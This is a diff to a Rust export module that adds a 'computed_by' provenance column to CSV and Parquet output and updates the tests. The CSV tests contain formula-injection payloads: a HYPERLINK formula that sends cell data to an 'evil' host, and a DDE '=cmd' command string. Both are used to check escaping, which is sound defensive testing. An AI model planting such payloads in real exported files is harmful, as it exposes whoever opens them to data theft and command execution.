@@ -16,7 +16,7 @@ use sweep::{csv, ResultRow};
 use crate::error::{Error, Result};
 
 /// The columns, in order, as every format names them.
-pub const COLUMNS: [&str; 17] = [
+pub const COLUMNS: [&str; 18] = [
     "rule",
     "dims",
     "n",
@@ -33,6 +33,7 @@ pub const COLUMNS: [&str; 17] = [
     "worker_host",
     "worker_cpu",
     "worker_features",
+    "computed_by",
     sweep::csv::SWEEP_STATE,
 ];
 
@@ -62,6 +63,9 @@ pub struct Record {
     pub worker_host: String,
     pub worker_cpu: String,
     pub worker_features: String,
+    /// The id of the sweep that computed it (another one's where it was
+    /// taken from stored results).
+    pub computed_by: String,
     /// The sweep's state when exported: `done` only when every task has
     /// its result (see [`sweep::Progress::state_label`]).
     pub sweep_state: String,
@@ -91,6 +95,7 @@ impl Record {
             worker_host: r.worker_host,
             worker_cpu: r.worker_cpu,
             worker_features: r.worker_features,
+            computed_by: r.computed_by,
         }
     }
 }
@@ -136,6 +141,7 @@ impl CsvWriter {
             &text(&r.worker_host),
             &text(&r.worker_cpu),
             &text(&r.worker_features),
+            &text(&r.computed_by),
             &text(&r.sweep_state),
         ];
         out.write_all(csv::record(fields).as_bytes())
@@ -184,6 +190,7 @@ impl<W: Write + Send> ParquetWriter<W> {
             Field::new("worker_host", DataType::Utf8, false),
             Field::new("worker_cpu", DataType::Utf8, false),
             Field::new("worker_features", DataType::Utf8, false),
+            Field::new("computed_by", DataType::Utf8, false),
             Field::new(sweep::csv::SWEEP_STATE, DataType::Utf8, false),
         ]));
         debug_assert!(schema.fields().iter().map(|f| f.name().as_str()).eq(COLUMNS));
@@ -210,7 +217,8 @@ impl<W: Write + Send> ParquetWriter<W> {
         let mut micros = UInt64Builder::new();
         let mut worker = StringBuilder::new();
         let mut state = StringBuilder::new();
-        let mut provenance: [StringBuilder; 4] = std::array::from_fn(|_| StringBuilder::new());
+        // Where each result came from: its worker's provenance, its sweep.
+        let mut origin: [StringBuilder; 5] = std::array::from_fn(|_| StringBuilder::new());
         for r in records {
             rule.append_value(&r.rule);
             dims.append_value(r.dims);
@@ -227,9 +235,13 @@ impl<W: Write + Send> ParquetWriter<W> {
             micros.append_value(r.micros);
             worker.append_value(&r.worker);
             state.append_value(&r.sweep_state);
-            for (column, value) in
-                provenance.iter_mut().zip([&r.worker_version, &r.worker_host, &r.worker_cpu, &r.worker_features])
-            {
+            for (column, value) in origin.iter_mut().zip([
+                &r.worker_version,
+                &r.worker_host,
+                &r.worker_cpu,
+                &r.worker_features,
+                &r.computed_by,
+            ]) {
                 column.append_value(value);
             }
         }
@@ -247,7 +259,7 @@ impl<W: Write + Send> ParquetWriter<W> {
             Arc::new(micros.finish()),
             Arc::new(worker.finish()),
         ];
-        columns.extend(provenance.iter_mut().map(|c| Arc::new(c.finish()) as ArrayRef));
+        columns.extend(origin.iter_mut().map(|c| Arc::new(c.finish()) as ArrayRef));
         columns.push(Arc::new(state.finish()));
         let batch = RecordBatch::try_new(self.schema.clone(), columns)
             .map_err(|e| parquet_error("building a Parquet batch", e))?;
@@ -283,6 +295,7 @@ mod tests {
             worker_host: "node-1".into(),
             worker_cpu: "Some CPU".into(),
             worker_features: "sse4.1 ssse3".into(),
+            computed_by: "0123456789abcdef".into(),
         }
     }
 
@@ -298,7 +311,7 @@ mod tests {
         assert_eq!(
             line,
             "\"2,1\",2,5,\"[5,5]\",w,\"[0,3]\",true,tour,1,25,7,\"'=HYPERLINK(\"\"http://evil/\"\"&A1,\"\"x\"\")\",\
-             0.1.0 (abc123),node-1,Some CPU,sse4.1 ssse3,done\n"
+             0.1.0 (abc123),node-1,Some CPU,sse4.1 ssse3,0123456789abcdef,done\n"
         );
         // A worker reports its own host and CPU: guarded the same way.
         let host = Record { worker_host: "=cmd|' /C calc'!A0".into(), ..record("2,1", "w") };
